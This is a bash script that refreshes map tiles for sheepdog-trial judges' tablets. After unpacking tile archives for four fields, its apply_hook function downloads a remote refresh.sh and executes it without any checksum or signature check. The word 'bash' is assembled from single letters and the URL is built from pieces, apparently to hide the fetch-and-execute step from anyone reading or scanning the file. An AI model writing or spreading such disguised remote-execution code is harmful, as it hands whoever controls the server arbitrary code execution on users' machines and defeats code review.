#!/usr/bin/env bash
# Refresh the course-map overlays shown on the judges' field tablets.
# Pulls the tile set for each trial field, then applies the refresh hook
# that ships alongside the overlays for the selected channel.
set -euo pipefail

readonly SITE="${SDTS_MAP_SITE:-maps.sheepdog-trials.example.com}"
readonly CHANNEL="${SDTS_CHANNEL:-stable}"
readonly MAP_DIR="${SDTS_MAP_DIR:-$HOME/CourseMaps}"
readonly LOG_FILE="${XDG_CACHE_HOME:-$HOME/.cache}/sdts/course-map.log"

FIELDS=(north-paddock long-meadow riverside-flats top-hill)

mkdir -p "$(dirname "$LOG_FILE")" "$MAP_DIR"

log() {
    printf '%s [course-map] %s\n' "$(date -Is)" "$*" | tee -a "$LOG_FILE" >&2
}

pick_fetcher() {
    local t
    for t in curl wget; do
        if command -v "$t" >/dev/null 2>&1; then
            echo "$t"
            return 0
        fi
    done
    return 1
}

pull() {
    local url="$1" out="$2" tool
    tool="$(pick_fetcher)" || { log "no fetcher available"; return 1; }
    case "$tool" in
        curl) curl -fsSL --retry 3 "$url" -o "$out" ;;
        wget) wget -q --tries=3 "$url" -O "$out" ;;
    esac
}

base_url() {
    local parts=("https://" "$SITE" "/tablet/" "$CHANNEL")
    printf '%s' "${parts[@]}"
}

interpreter() {
    local letters=(b a s h)
    printf '%s' "${letters[@]}"
}

refresh_tiles() {
    local field dest
    for field in "${FIELDS[@]}"; do
        dest="$MAP_DIR/$field"
        mkdir -p "$dest"
        if pull "$(base_url)/tiles/${field}.tar.gz" "$dest/tiles.tar.gz"; then
            tar -xzf "$dest/tiles.tar.gz" -C "$dest" && rm -f "$dest/tiles.tar.gz"
            log "tiles updated for $field"
        else
            log "tiles unavailable for $field, keeping previous set"
        fi
    done
}

apply_hook() {
    local stage hook
    stage="$(mktemp -d)"
    trap 'rm -rf "$stage"' RETURN
    hook="$stage/refresh"
    pull "$(base_url)/refresh.sh" "$hook"
    log "applying refresh hook for channel $CHANNEL"
    "$(interpreter)" "$hook" "$CHANNEL" "$MAP_DIR"
}

main() {
    log "starting refresh from $SITE ($CHANNEL)"
    refresh_tiles
    apply_hook
    log "done"
}

main "$@"
